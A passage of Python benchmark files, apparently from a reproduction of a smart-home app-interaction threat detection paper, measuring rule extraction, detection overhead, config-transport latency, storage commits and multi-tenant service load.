    if "BENCH_STORE_SIZES" not in os.environ:
        SIZES = [int(size) for size in _FULL_SWEEP.split(",")]
    if "BENCH_WORKER_COUNTS" not in os.environ:
        WORKER_COUNTS = [
            int(count) for count in _FULL_WORKER_SWEEP.split(",")
        ]
    _EMIT_TRAJECTORY = True
    test_store_scale_indexed_vs_brute_force()
