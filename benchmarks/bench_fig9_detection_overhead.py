"""Fig. 9 — CAI detection overhead for a pair of rules.

Per-threat-class timing of candidate filtering vs constraint solving,
plus the effect of solver-result reuse: CT/SD/LT reuse the AR solving
result and DC reuses EC's (the paper's green dotted arrows).  Absolute
numbers differ from the paper's Galaxy S8; the shape to reproduce is
(1) constraint solving dominates, (2) reuse removes most repeat cost,
(3) the total for one pair stays near a second at worst.
"""

import time

from repro.constraints import TypeBasedResolver
from repro.detector import DetectionEngine
from repro.detector.types import ThreatType
from repro.rules import extract_rules

RULE_A = '''
input "tv1", "capability.switch"
input "tSensor", "capability.temperatureMeasurement"
input "threshold1", "number"
input "window1", "capability.switch"
def installed() { subscribe(tv1, "switch.on", h) }
def h(evt) {
    def t = tSensor.currentValue("temperature")
    if (t > threshold1) window1.on()
}
'''

RULE_B = '''
input "tv2", "capability.switch"
input "weather", "enum"
input "window2", "capability.switch"
def installed() { subscribe(tv2, "switch.on", h) }
def h(evt) {
    if (weather == "rainy") window2.off()
}
'''

HINTS = {
    "A": {"tv1": "tv", "tSensor": "temperatureSensor", "window1": "windowOpener"},
    "B": {"tv2": "tv", "window2": "windowOpener"},
}


def _fresh_engine():
    return DetectionEngine(
        TypeBasedResolver(type_hints=HINTS, values={"A": {"threshold1": 30}})
    )


def _detect_pair_cold():
    engine = _fresh_engine()
    rule_a = extract_rules(RULE_A, "A").rules[0]
    rule_b = extract_rules(RULE_B, "B").rules[0]
    return engine.detect_pair(rule_a, rule_b), engine.stats


def test_fig9_detection_overhead(benchmark):
    threats, stats = benchmark(_detect_pair_cold)
    assert threats  # the pair is the paper's AR example

    print("\n=== Fig. 9: per-pair detection overhead (cold cache) ===")
    print(f"{'stage':<28}{'milliseconds':>14}")
    total_candidate = 0.0
    total_solve = 0.0
    for threat_type in ThreatType:
        candidate = stats.candidate_seconds.get(threat_type, 0.0) * 1000
        solve = stats.solve_seconds.get(threat_type, 0.0) * 1000
        total_candidate += candidate
        total_solve += solve
        if candidate or solve:
            print(f"{threat_type.value + ' candidate filter':<28}{candidate:>14.3f}")
            if solve:
                print(f"{threat_type.value + ' constraint solving':<28}{solve:>14.3f}")
    print(f"{'total candidate filtering':<28}{total_candidate:>14.3f}")
    print(f"{'total constraint solving':<28}{total_solve:>14.3f}")
    print(f"solver calls: {stats.solver_calls}, cache hits: {stats.cache_hits}")

    # Shape: constraint solving dominates candidate filtering.
    assert total_solve > total_candidate
    # At most one situation solve and one effect solve per direction —
    # CT/SD/LT reuse AR's result and DC reuses EC's (the green arrows).
    assert stats.solver_calls <= 4
    # The pair's full detection stays well under the paper's 1156 ms cap.
    assert (total_candidate + total_solve) < 1156


def test_fig9_reuse_saves_solver_calls():
    engine = _fresh_engine()
    rule_a = extract_rules(RULE_A, "A").rules[0]
    rule_b = extract_rules(RULE_B, "B").rules[0]

    started = time.perf_counter()
    engine.detect_pair(rule_a, rule_b)
    cold = time.perf_counter() - started
    cold_calls = engine.stats.solver_calls

    started = time.perf_counter()
    engine.detect_pair(rule_a, rule_b)
    warm = time.perf_counter() - started

    assert engine.stats.solver_calls == cold_calls  # all solves reused
    print(f"\ncold pair: {cold*1000:.2f} ms, warm pair: {warm*1000:.2f} ms, "
          f"solver calls: {cold_calls}")
    assert warm <= cold
