"""§VIII-C — rule extraction computation and storage.

The paper runs the extractor 10 times over all 146 automation apps
(1341 ms/app average on their desktop) and reports ~6.2 KB JSON rule
files.  We benchmark the same sweep and report our per-app average and
rule-file sizes; absolute times differ (pure-Python substrate), the
claims to hold are "one-time offline cost, small variance, files of a
few KB".
"""

from repro.corpus import automation_apps
from repro.rules import ruleset_to_json
from repro.rules.extractor import RuleExtractor


def _extract_all():
    extractor = RuleExtractor()
    return [
        extractor.extract(app.source, app.name) for app in automation_apps()
    ]


def test_extraction_time_all_apps(benchmark):
    rulesets = benchmark(_extract_all)
    assert len(rulesets) == 146
    per_app_ms = (
        benchmark.stats.stats.mean * 1000.0 / len(rulesets)
        if benchmark.stats is not None
        else 0.0
    )
    print(f"\n=== §VIII-C: extraction time ===")
    print(f"apps extracted: {len(rulesets)}")
    print(f"mean per-app extraction time: {per_app_ms:.3f} ms "
          f"(paper: 1341 ms on Groovy/JVM)")


def test_rule_file_sizes():
    extractor = RuleExtractor()
    sizes = []
    for app in automation_apps():
        ruleset = extractor.extract(app.source, app.name)
        sizes.append(len(ruleset_to_json(ruleset).encode()))
    mean = sum(sizes) / len(sizes)
    print(f"\n=== §VIII-C: rule file sizes ===")
    print(f"mean rule file size: {mean/1024:.2f} KB (paper: 6.2 KB)")
    print(f"min/max: {min(sizes)} / {max(sizes)} bytes")
    # Same order of magnitude as the paper's 6.2 KB.
    assert 0.1 * 1024 < mean < 30 * 1024
