"""§VIII-C — configuration information collection speed.

The paper measures 27 ms of cloud-side processing plus 3120 ms (SMS) /
1058 ms (HTTP) transmission latency over 100 trials.  The transports
reproduce those distributions; the benchmark also times the actual
encode -> send -> decode pipeline, which is the part our substrate
really executes.
"""

from repro.capabilities.devices import make_device_id
from repro.config import (
    ConfigPayload,
    FcmHttpTransport,
    SmsTransport,
    decode_uri,
    encode_uri,
)
from repro.config.messaging import CLOUD_PROCESSING_MS


def _payload():
    return ConfigPayload(
        app_name="ComfortTV",
        devices={
            "tv1": make_device_id("tv"),
            "tSensor": make_device_id("sensor"),
            "window1": make_device_id("window"),
        },
        values={"threshold1": "30"},
    )


def test_sms_vs_http_latency_model():
    sms = SmsTransport(seed=5)
    http = FcmHttpTransport(seed=5)
    uri = encode_uri(_payload())
    sms_lat = [sms.send(uri, None).latency_ms for _ in range(100)]
    http_lat = [http.send(uri, None).latency_ms for _ in range(100)]
    sms_mean = sum(sms_lat) / 100
    http_mean = sum(http_lat) / 100
    print("\n=== §VIII-C: configuration collection latency (100 trials) ===")
    print(f"cloud processing: {CLOUD_PROCESSING_MS:.0f} ms (paper: 27 ms)")
    print(f"SMS  mean: {sms_mean:7.1f} ms (paper: 3120 ms)")
    print(f"HTTP mean: {http_mean:7.1f} ms (paper: 1058 ms)")
    print(f"SMS/HTTP ratio: {sms_mean / http_mean:.2f}x (paper: 2.95x)")
    assert 2500 < sms_mean < 3800
    assert 800 < http_mean < 1400
    assert 2.0 < sms_mean / http_mean < 4.0


def test_uri_pipeline_throughput(benchmark):
    payload = _payload()

    def pipeline():
        uri = encode_uri(payload)
        return decode_uri(uri)

    decoded = benchmark(pipeline)
    assert decoded == payload
