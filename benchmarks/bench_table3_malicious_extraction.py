"""Table III — extracting rules from the 18 malicious apps.

The paper reports that rule extraction handles 8 of the 10 attack
classes; endpoint attacks (rules defined outside the app) and app-update
attacks (cloud-side changes after review) cannot be captured statically.
"""

from repro.corpus import malicious_apps
from repro.corpus.malicious import HANDLED_ATTACKS, UNHANDLED_ATTACKS
from repro.rules.extractor import RuleExtractor


def _extract_all():
    extractor = RuleExtractor()
    outcomes = {}
    for app in malicious_apps():
        ruleset = extractor.extract(app.source, app.name)
        outcomes[app.name] = (app.attack, len(ruleset) > 0)
    return outcomes


def test_table3_malicious_extraction(benchmark):
    outcomes = benchmark(_extract_all)
    assert len(outcomes) == 18

    by_attack: dict[str, list[bool]] = {}
    for _name, (attack, handled) in outcomes.items():
        by_attack.setdefault(attack, []).append(handled)

    print("\n=== Table III: extracting rules from malicious apps ===")
    print(f"{'Attack':<22}{'Apps':>5}   Can handle?")
    for attack in sorted(by_attack):
        handled = by_attack[attack]
        verdict = "yes" if all(handled) else "NO"
        print(f"{attack:<22}{len(handled):>5}   {verdict}")

    for attack in HANDLED_ATTACKS:
        assert all(by_attack[attack]), f"{attack} should be extractable"
    # Endpoint-attack apps genuinely yield no automation rules; the
    # app-update apps extract fine at review time (the attack arrives
    # later), which is exactly why static review cannot stop them.
    assert not any(by_attack["Endpoint Attack"])
    assert all(by_attack["App Update"])
    assert set(by_attack) == HANDLED_ATTACKS | UNHANDLED_ATTACKS
