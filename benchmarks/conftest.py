"""Shared fixtures for the benchmark harness.

Each benchmark module regenerates one table or figure of the paper's
evaluation (see DESIGN.md's per-experiment index).  Session-scoped
fixtures cache the corpus rule sets so individual benchmarks measure
only their own stage.
"""

import pytest

from repro.constraints import TypeBasedResolver
from repro.corpus import device_controlling_apps
from repro.rules.extractor import RuleExtractor


@pytest.fixture(scope="session")
def corpus_rulesets():
    """Rule sets + resolver for the 90 device-controlling apps."""
    extractor = RuleExtractor()
    rulesets = []
    hints, values = {}, {}
    for app in device_controlling_apps():
        rulesets.append(extractor.extract(app.source, app.name))
        hints[app.name] = app.type_hints
        values[app.name] = app.values
    resolver = TypeBasedResolver(type_hints=hints, values=values)
    return rulesets, resolver
