"""Table IV / §VIII-D.4 — multi-platform rule definition.

SmartApps are programs; IFTTT defines rules through templates parsed
with NLP.  This benchmark extracts rules from a set of IFTTT-style
applet sentences and checks they feed the same detection pipeline.
"""

from repro.constraints import TypeBasedResolver
from repro.detector import DetectionEngine, ThreatType
from repro.ifttt import Applet, extract_applet_rule

APPLETS = [
    Applet("HallNight", "If motion is detected, then turn on the light"),
    Applet("HallDark", "If motion is detected, then turn off the light"),
    Applet("HeatVent", "If the temperature rises above 85, then turn on the fan"),
    Applet("AutoLock", "If I leave home, then lock the front door"),
    Applet("Welcome", "If I arrive home, then unlock the front door"),
    Applet("EveningShades", "If the sun sets, then close the shades"),
    Applet("LeakAlert", "If a water leak is detected, then notify me"),
    Applet("SmokeCam", "If smoke is detected, then take a photo"),
]


def _extract_all():
    return [extract_applet_rule(applet) for applet in APPLETS]


def test_ifttt_extraction(benchmark):
    rules = benchmark(_extract_all)
    assert len(rules) == len(APPLETS)
    print("\n=== Table IV: IFTTT template rule extraction ===")
    for applet, rule in zip(APPLETS, rules):
        print(f"{applet.name:<14} trigger={rule.trigger.attribute:<12} "
              f"action={rule.action.subject}.{rule.action.command}")


def test_ifttt_rules_feed_detection():
    rules = {rule.app_name: rule for rule in _extract_all()}
    hints = {
        "HallNight": {"HallNight_trigger": "motionSensor",
                      "HallNight_light": "light"},
        "HallDark": {"HallDark_trigger": "motionSensor",
                     "HallDark_light": "light"},
    }
    engine = DetectionEngine(TypeBasedResolver(type_hints=hints))
    threats = engine.detect_pair(rules["HallNight"], rules["HallDark"])
    assert any(t.type is ThreatType.ACTUATOR_RACE for t in threats)
    print("\ncross-applet AR detected between HallNight and HallDark")
