"""Delta-snapshot storage engine: commit cost and bounded residency.

Two arms over the §14 storage engine (``repro.detector.storage``):

* ``commit_cost`` — a fleet store holding ``HOMES`` tenant homes (one
  WAL-mode SQLite database, one key namespace per home).  One home
  takes one more install through the delta-commit path; the receipt's
  durably-written bytes are compared against the bytes a full-store
  rewrite of the whole fleet would write.  The acceptance gate is the
  O(changed home) claim: at the 10k-home full-run shape a single
  install writes **< 1%** of the full-store rewrite (the smoke shape
  scales the floor as ``8 / HOMES``).  The fleet is replicated from
  one template home's documents — a pure storage measurement, so the
  10k-home shape never pays 10k solver audits.

* ``bounded_churn`` — ``CHURN_HOMES`` homes each install (and
  auto-keep) two interfering apps through one
  :class:`~repro.service.service.HomeGuardService` with
  ``max_resident_homes=CHURN_BOUND``, three ways: journaled deltas on
  the directory backend, journaled deltas on the fleet SQLite backend,
  and the eager full-rewrite path (``store_delta=False``).  Peak
  residency must stay under the bound while threats and the canonical
  parsed store state of **every** home stay identical across all three
  arms (eviction is a warm restart; the journal is an encoding, not a
  semantic).

Select the shape with BENCH_STORE_HOMES / BENCH_STORE_APPS /
BENCH_STORE_CHURN_HOMES / BENCH_STORE_CHURN_BOUND (defaults
"50"/"4"/"8"/"2" under pytest; "10000"/"6"/"384"/"256" as a script).
Script runs write ``BENCH_store_engine.json`` at the repo root as a
machine-readable trajectory point; CI smoke passes set
BENCH_STORE_EMIT_PATH to upload the run's numbers without touching
the committed artifact.
"""

from __future__ import annotations

import json
import os
import tempfile
import time
from pathlib import Path

from repro.corpus import app_by_name, device_controlling_apps
from repro.detector import DetectionPipeline, DetectionStore, ShardedRuleIndex
from repro.detector.storage import SQLiteStoreBackend
from repro.rules.extractor import RuleExtractor
from repro.service import (
    HomeGuardService,
    InstallRequest,
    SeverityThresholdPolicy,
)

HOMES = int(os.environ.get("BENCH_STORE_HOMES", "50"))
APPS_PER_HOME = int(os.environ.get("BENCH_STORE_APPS", "4"))
CHURN_HOMES = int(os.environ.get("BENCH_STORE_CHURN_HOMES", "8"))
CHURN_BOUND = int(os.environ.get("BENCH_STORE_CHURN_BOUND", "2"))
_FULL_SHAPE = {
    "BENCH_STORE_HOMES": "10000",
    "BENCH_STORE_APPS": "6",
    "BENCH_STORE_CHURN_HOMES": "384",
    "BENCH_STORE_CHURN_BOUND": "256",
}
_RESULTS_PATH = (
    Path(__file__).resolve().parent.parent / "BENCH_store_engine.json"
)
# Set by the __main__ entry point: only dedicated script runs overwrite
# the committed repo-root trajectory artifact.
_EMIT_TRAJECTORY = False


def _commit_ratio_floor(homes: int) -> float:
    """The acceptance gate scales with the fleet: at the 10k full-run
    shape it is the ISSUE's hard < 1%; small smoke fleets use the same
    O(changed home) slope (one home plus journal overhead)."""
    return max(0.01, 8.0 / homes)


class _HomeResolver:
    """One home: same-type devices alias, inputs come from the corpus
    app's recorded settings — the bench_store_scale idiom at size 1."""

    def __init__(self) -> None:
        self.type_hints: dict[str, dict[str, str]] = {}
        self.values: dict[str, dict[str, object]] = {}

    def identity(self, app_name, ref):
        hint = self.type_hints.get(app_name, {}).get(ref.name)
        if hint is not None:
            return f"home:{hint}", hint
        cap_name = ref.capability.split(".", 1)[-1]
        return f"home:cap:{cap_name}", None

    def input_value(self, app_name, input_name):
        return self.values.get(app_name, {}).get(input_name)

    def environment(self, app_name):
        return "home"


def _template_rulesets(count: int):
    """One home's install plan: ``count + 1`` device-controlling
    corpus apps extracted to rulesets against shared typed devices."""
    extractor = RuleExtractor()
    apps = list(device_controlling_apps())[: count + 1]
    resolver = _HomeResolver()
    rulesets = []
    for app in apps:
        rulesets.append(extractor.extract(app.source, app.name))
        resolver.type_hints[app.name] = dict(app.type_hints)
        resolver.values[app.name] = dict(app.values)
    return rulesets, resolver


def bench_commit_cost(root: Path) -> dict:
    """Build a HOMES-home fleet database, then measure one delta
    commit against the full-store rewrite of the whole fleet."""
    rulesets, resolver = _template_rulesets(APPS_PER_HOME)
    base_sets, extra = rulesets[:APPS_PER_HOME], rulesets[APPS_PER_HOME]
    named = {r.app_name: r for r in rulesets}

    # Template home: a real incremental audit, persisted with deltas.
    fleet = SQLiteStoreBackend(root / "fleet.sqlite")
    pipeline = DetectionPipeline(resolver, index=ShardedRuleIndex())
    template = DetectionStore(
        root / "homes" / "h0", backend=fleet.namespace("h0")
    )
    for ruleset in base_sets:
        pipeline.detect(ruleset)
        pipeline.commit(ruleset.app_name, ruleset)
        template.commit_app(pipeline, ruleset.app_name, rulesets=named)

    # Replicate the template's documents to the other HOMES-1 homes —
    # identical homes, so this measures storage, not the solver.
    docs = {
        name: template.backend.read_doc(name)
        for name in template.backend.list_docs("")
    }
    journal = template.backend.read_journal("journal.jsonl")
    replicated = time.perf_counter()
    per_home_bytes = 0
    for i in range(1, HOMES):
        view = fleet.namespace(f"h{i}")
        per_home_bytes = sum(
            view.write_doc(name, body) for name, body in docs.items()
        )
        for line in journal:
            per_home_bytes += view.append_journal("journal.jsonl", line)
    replicate_seconds = time.perf_counter() - replicated
    if HOMES == 1:
        per_home_bytes = sum(
            len(body.encode("utf-8")) for body in docs.values()
        ) + sum(len(line.encode("utf-8")) + 1 for line in journal)
    full_store_bytes = per_home_bytes * HOMES

    # The measured event: one more install lands in one home.
    warm = DetectionStore(
        root / "homes" / "h0", backend=fleet.namespace("h0")
    ).warm_start(resolver, base_sets)
    assert not warm.cold and warm.pipeline.stats.solver_calls == 0
    live = warm.pipeline
    live.detect(extra)
    live.commit(extra.app_name, extra)
    store = DetectionStore(
        root / "homes" / "h0", backend=fleet.namespace("h0")
    )
    receipt = store.commit_app(live, extra.app_name, rulesets=named)
    assert not receipt.full and not receipt.compacted

    ratio = receipt.bytes_written / full_store_bytes
    floor = _commit_ratio_floor(HOMES)
    print(
        f"  commit_cost: {HOMES} homes x {APPS_PER_HOME} apps; one "
        f"install wrote {receipt.bytes_written} B in "
        f"{receipt.seconds * 1e3:.1f} ms = {ratio:.4%} of the "
        f"{full_store_bytes} B full-store rewrite (gate < {floor:.2%})"
    )
    assert ratio < floor, (
        f"delta commit wrote {ratio:.3%} of the full-store rewrite "
        f"(floor {floor:.2%} at {HOMES} homes) — not O(changed home)"
    )
    # The commit is durable and replayable: a fresh process sees the
    # extra app without re-solving it.
    reread = DetectionStore(
        root / "homes" / "h0", backend=fleet.namespace("h0")
    ).warm_start(resolver, rulesets)
    assert sorted(reread.warm_apps) == sorted(named)
    assert reread.pipeline.stats.solver_calls == 0
    fleet.close()
    return {
        "homes": HOMES,
        "apps_per_home": APPS_PER_HOME,
        "delta_commit_bytes": receipt.bytes_written,
        "delta_commit_seconds": receipt.seconds,
        "full_store_bytes": full_store_bytes,
        "per_home_bytes": per_home_bytes,
        "commit_ratio": ratio,
        "ratio_floor": floor,
        "replicate_seconds": replicate_seconds,
    }


_CHURN_PLAN = (
    dict(
        app_name="ComfortTV",
        devices={"tv1": "TV", "tSensor": "Temp", "window1": "Window"},
        values={"threshold1": 30},
    ),
    dict(
        app_name="ColdDefender",
        devices={"tv2": "TV", "window2": "Window"},
        values={"weather": "rainy"},
    ),
)


def _canonical_store(path: Path, backend=None) -> str:
    snapshot = DetectionStore(path, backend=backend).load()
    assert snapshot is not None
    return json.dumps(
        {
            "apps": snapshot.apps,
            "shards": {
                env: snapshot.shards[env] for env in sorted(snapshot.shards)
            },
            "frontend": snapshot.frontend,
        },
        default=str,
    )


def _churn_arm(root: Path, home_ids, **service_kwargs) -> dict:
    """Install both plan apps into every home (auto-keep policy), app
    by app across the fleet so every home is touched, evicted and
    touched again.  Returns threats, peak residency and wall time."""
    service = HomeGuardService(
        workers=None,
        store_root=root,
        policy=SeverityThresholdPolicy(threshold=10**6),
        **service_kwargs,
    )
    threats = {}
    peak = 0
    started = time.perf_counter()
    try:
        service.preload(
            [app_by_name("ComfortTV"), app_by_name("ColdDefender")]
        )
        # Registrations live in memory until the first commit persists
        # them (eviction is a warm restart), so each home takes its
        # first install in the same pass; the second app then lands on
        # homes that were evicted and re-hydrated in between.
        for home_id in home_ids:
            service.create_home(home_id)
            service.register_device(home_id, "TV", "tv")
            service.register_device(home_id, "Temp", "temperatureSensor")
            service.register_device(home_id, "Window", "windowOpener")
            session = service.install(
                InstallRequest(home_id=home_id, **_CHURN_PLAN[0])
            )
            threats.setdefault(home_id, []).append(session.report.to_json())
            peak = max(peak, service.resident_count())
        for request in _CHURN_PLAN[1:]:
            for home_id in home_ids:
                session = service.install(
                    InstallRequest(home_id=home_id, **request)
                )
                threats.setdefault(home_id, []).append(
                    session.report.to_json()
                )
                peak = max(peak, service.resident_count())
        assert service.home_count() == len(home_ids)
    finally:
        service.close()
    return {
        "threats": threats,
        "peak_resident": peak,
        "seconds": time.perf_counter() - started,
    }


def bench_bounded_churn(root: Path) -> dict:
    home_ids = [f"h{i:05d}" for i in range(CHURN_HOMES)]
    arms = {
        "delta_dir": dict(max_resident_homes=CHURN_BOUND),
        "delta_sqlite": dict(
            max_resident_homes=CHURN_BOUND, store_backend="sqlite"
        ),
        "eager_dir": dict(
            max_resident_homes=CHURN_BOUND, store_delta=False
        ),
    }
    results = {}
    for arm, kwargs in arms.items():
        results[arm] = _churn_arm(root / arm, home_ids, **kwargs)
        print(
            f"  bounded_churn/{arm}: {CHURN_HOMES} homes, bound "
            f"{CHURN_BOUND}, peak resident "
            f"{results[arm]['peak_resident']}, "
            f"{results[arm]['seconds']:.2f}s"
        )
        assert results[arm]["peak_resident"] <= CHURN_BOUND, (
            f"{arm}: residency {results[arm]['peak_resident']} exceeded "
            f"the bound {CHURN_BOUND}"
        )
        # The journal and the backend are encodings: the reports every
        # tenant saw are identical across arms.
        assert results[arm]["threats"] == results["delta_dir"]["threats"], (
            f"{arm}: threat reports diverged from the delta/dir arm"
        )
    # And the persisted state of every single home parses identically
    # across all three arms (delta-vs-eager, dir-vs-sqlite).
    fleet = SQLiteStoreBackend(root / "delta_sqlite" / "store.sqlite")
    for home_id in home_ids:
        reference = _canonical_store(root / "delta_dir" / home_id)
        assert reference == _canonical_store(root / "eager_dir" / home_id), (
            f"{home_id}: eager full saves diverged from delta commits"
        )
        assert reference == _canonical_store(
            root / "delta_sqlite" / home_id,
            backend=fleet.namespace(home_id),
        ), f"{home_id}: sqlite backend diverged from directory backend"
    fleet.close()
    return {
        "churn_homes": CHURN_HOMES,
        "bound": CHURN_BOUND,
        "arms": {
            arm: {
                "peak_resident": data["peak_resident"],
                "seconds": data["seconds"],
            }
            for arm, data in results.items()
        },
        "stores_identical_across_arms": True,
    }


def test_store_engine():
    print(
        f"\n=== Store engine: {HOMES} fleet homes, {CHURN_HOMES}-home "
        f"churn bounded at {CHURN_BOUND} ==="
    )
    with tempfile.TemporaryDirectory() as root:
        results = {
            "commit_cost": bench_commit_cost(Path(root) / "cost"),
            "bounded_churn": bench_bounded_churn(Path(root) / "churn"),
        }
    if _EMIT_TRAJECTORY:
        _emit_trajectory(results, _RESULTS_PATH)
    emit_path = os.environ.get("BENCH_STORE_EMIT_PATH")
    if emit_path:
        _emit_trajectory(results, Path(emit_path))


def _emit_trajectory(results: dict, path: Path) -> None:
    payload = {
        "benchmark": "store_engine",
        "arms": results,
        "commit_under_floor": (
            results["commit_cost"]["commit_ratio"]
            < results["commit_cost"]["ratio_floor"]
        ),
    }
    path.write_text(
        json.dumps(payload, indent=1, sort_keys=True), encoding="utf-8"
    )
    print(f"trajectory point written to {path.name}")


if __name__ == "__main__":
    for name, value in _FULL_SHAPE.items():
        if name not in os.environ:
            os.environ[name] = value
    HOMES = int(os.environ["BENCH_STORE_HOMES"])
    APPS_PER_HOME = int(os.environ["BENCH_STORE_APPS"])
    CHURN_HOMES = int(os.environ["BENCH_STORE_CHURN_HOMES"])
    CHURN_BOUND = int(os.environ["BENCH_STORE_CHURN_BOUND"])
    _EMIT_TRAJECTORY = True
    test_store_engine()
