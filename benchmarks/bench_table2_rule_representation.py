"""Table II — rule representation of Rule 1 (ComfortTV).

Regenerates the structured rule the paper shows for Listing 1 and
benchmarks the symbolic-execution extraction that produces it.
"""

from repro.corpus import app_by_name
from repro.rules import extract_rules
from repro.symex.values import BinExpr, Const, EventValue


def _extract():
    return extract_rules(app_by_name("ComfortTV").source, "ComfortTV")


def test_table2_rule_representation(benchmark):
    ruleset = benchmark(_extract)
    rule = ruleset.rules[0]

    # --- Trigger column -------------------------------------------------
    assert rule.trigger.subject == "tv1"
    assert rule.trigger.attribute == "switch"
    assert rule.trigger.constraint == BinExpr("==", EventValue(), Const("on"))

    # --- Condition column -----------------------------------------------
    data = {c.name: str(c.value) for c in rule.condition.data_constraints}
    assert data.get("t") == "tSensor.temperature"
    assert data.get("tSensor.temperature") == "'#DevState'"
    assert "threshold1" in data
    predicates = [str(p) for p in rule.condition.predicate_constraints]
    assert "(t > threshold1)" in predicates
    assert "(window1.switch == 'off')" in predicates

    # --- Action column --------------------------------------------------
    assert rule.action.subject == "window1"
    assert rule.action.command == "on"
    assert rule.action.params == ()
    assert rule.action.when == 0.0
    assert rule.action.period == 0.0

    print("\n=== Table II: rule representation of Rule 1 (ComfortTV) ===")
    print("Trigger   : subject=tv1  attribute=switch  constraint=tv1.switch==on")
    print(f"Condition : data={sorted(data)}")
    print(f"            predicates={predicates}")
    print("Action    : subject=window1 command=on paras=[] when=0 period=0")
