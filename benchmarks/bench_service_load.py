"""Fleet transport under load: hundreds of tenants, one server.

``TENANTS`` concurrent tenants each open their own connection to one
:class:`FleetServer` (DESIGN.md §13) and walk a small but real
workload — create home, register a device, install a custom app,
decide it, then ``REQUESTS`` rounds of light queries — while one
deliberately throttled flood tenant hammers the server far past its
token-bucket quota.  Everything is measured from the client side of
the socket:

* throughput (completed requests / wall second) and request latency
  percentiles (p50/p95/p99, per method and overall);
* **exact** quota accounting: the flood tenant runs against a
  ``rate=0`` bucket of depth ``FLOOD_BURST``, so precisely
  ``FLOOD_REQUESTS - FLOOD_BURST`` rejections must come back typed as
  ``quota-exceeded`` — and the server's own counters must agree;
* fairness spread: every tenant runs the identical workload
  concurrently, so the max/median spread of tenant makespans measures
  how evenly the weighted-fair scheduler shares the one dispatcher;
* the zero-internal-errors invariant, read back from ``status``.

Select the shape with BENCH_SERVICE_TENANTS / BENCH_SERVICE_REQUESTS
(defaults "40" / "2" under pytest; a "200"-tenant sweep when run as a
script).  Script runs write ``BENCH_service_load.json`` at the repo
root as a machine-readable trajectory point; CI smoke passes set
BENCH_SERVICE_EMIT_PATH to upload a run's numbers without touching the
committed artifact.
"""

from __future__ import annotations

import asyncio
import json
import os
import time
from pathlib import Path

from repro.service.schemas import DecisionRequest, InstallRequest
from repro.service.service import HomeGuardService
from repro.service.transport import (
    AsyncFleetClient,
    FleetClient,
    TenantQuota,
    serve_background,
)

TENANTS = int(os.environ.get("BENCH_SERVICE_TENANTS", "40"))
REQUESTS = int(os.environ.get("BENCH_SERVICE_REQUESTS", "2"))
_FULL_TENANTS = "200"
_FULL_REQUESTS = "3"

#: The flood tenant's exact allowance: a rate=0 bucket of this depth.
FLOOD_BURST = 25
#: How many requests the flood tenant actually fires.
FLOOD_REQUESTS = 150

_RESULTS_PATH = (
    Path(__file__).resolve().parent.parent / "BENCH_service_load.json"
)
_EMIT_TRAJECTORY = False

APP_SOURCE = """
definition(name: "Bench App", namespace: "bench", author: "bench")
preferences {
    section("sw") { input "sw", "capability.switch" }
}
def installed() { subscribe(sw, "switch.on", handler) }
def handler(evt) { sw.off() }
"""


def _percentile(samples: list[float], fraction: float) -> float:
    if not samples:
        return 0.0
    ordered = sorted(samples)
    index = min(
        len(ordered) - 1, max(0, round(fraction * (len(ordered) - 1)))
    )
    return ordered[index]


def _latency_summary(seconds: list[float]) -> dict:
    return {
        "count": len(seconds),
        "p50_ms": round(_percentile(seconds, 0.50) * 1000.0, 3),
        "p95_ms": round(_percentile(seconds, 0.95) * 1000.0, 3),
        "p99_ms": round(_percentile(seconds, 0.99) * 1000.0, 3),
        "max_ms": round(max(seconds) * 1000.0, 3) if seconds else 0.0,
    }


async def _tenant_workload(live, index: int, samples: list,
                           makespans: list) -> None:
    home_id = f"bench-{index:04d}"
    async with AsyncFleetClient(live.host, live.port) as client:

        async def timed(method: str, params) -> tuple:
            started = time.perf_counter()
            result, error = await client.call(method, params)
            samples.append(
                (method, time.perf_counter() - started,
                 None if error is None else error.code)
            )
            return result, error

        tenant_started = time.perf_counter()
        _, error = await timed("create_home", {"home_id": home_id})
        assert error is None, error
        _, error = await timed("register_device", {
            "home_id": home_id, "label": "sw", "type": "switch",
        })
        assert error is None, error
        session, error = await timed("install", InstallRequest(
            home_id=home_id, app_name="bench-app", source=APP_SOURCE,
            devices={"sw": "sw"},
        ).to_json())
        assert error is None, error
        if session["status"] == "pending":
            _, error = await timed("decide", DecisionRequest(
                home_id=home_id, session_id=session["session_id"],
                decision="keep",
            ).to_json())
            assert error is None, error
        for _ in range(REQUESTS):
            _, error = await timed(
                "installed_apps", {"home_id": home_id}
            )
            assert error is None, error
            _, error = await timed("sessions", {"home_id": home_id})
            assert error is None, error
        makespans.append(time.perf_counter() - tenant_started)


async def _flood_workload(live) -> dict:
    """The throttled tenant: fires far past its non-refilling bucket
    and tallies what came back."""
    served = 0
    rejected = 0
    async with AsyncFleetClient(live.host, live.port) as client:
        for _ in range(FLOOD_REQUESTS):
            _, error = await client.call(
                "sessions", {"home_id": "flood-home"}
            )
            if error is None:
                served += 1
            else:
                assert error.code == "quota-exceeded", error.code
                assert error.details.get("retryable") is False
                rejected += 1
    return {"served": served, "rejected": rejected}


async def _drive(live) -> dict:
    samples: list = []
    makespans: list = []
    wall_started = time.perf_counter()
    flood_task = asyncio.ensure_future(_flood_workload(live))
    await asyncio.gather(*(
        _tenant_workload(live, index, samples, makespans)
        for index in range(TENANTS)
    ))
    flood = await flood_task
    wall = time.perf_counter() - wall_started
    return {
        "samples": samples, "makespans": makespans,
        "flood": flood, "wall": wall,
    }


def test_service_load():
    print(
        f"\n=== Service load: {TENANTS} tenants x "
        f"{4 + 2 * REQUESTS} requests, +1 flood tenant "
        f"({FLOOD_REQUESTS} calls vs burst {FLOOD_BURST}) ==="
    )
    service = HomeGuardService(workers=None)
    with serve_background(
        service,
        own_service=True,
        # Workload tenants run unthrottled; the flood tenant's bucket
        # never refills, so its accounting is exact by construction.
        quota=TenantQuota(rate=10_000.0, burst=100_000, max_inflight=64),
        tenant_quotas={
            "flood-home": TenantQuota(
                rate=0.0, burst=FLOOD_BURST, max_inflight=8
            ),
        },
        max_inflight_total=4096,
    ) as live:
        outcome = asyncio.run(_drive(live))
        with FleetClient(live.host, live.port) as client:
            record = client.status()

    samples = outcome["samples"]
    errors = [code for _, _, code in samples if code is not None]
    assert errors == [], f"workload tenants saw errors: {errors[:5]}"
    expected = TENANTS * (4 + 2 * REQUESTS)
    assert len(samples) == expected
    assert len(outcome["makespans"]) == TENANTS

    # Exact quota accounting, client side and server side.
    flood = outcome["flood"]
    assert flood["served"] == FLOOD_BURST
    assert flood["rejected"] == FLOOD_REQUESTS - FLOOD_BURST
    assert record.quota_rejections == flood["rejected"]
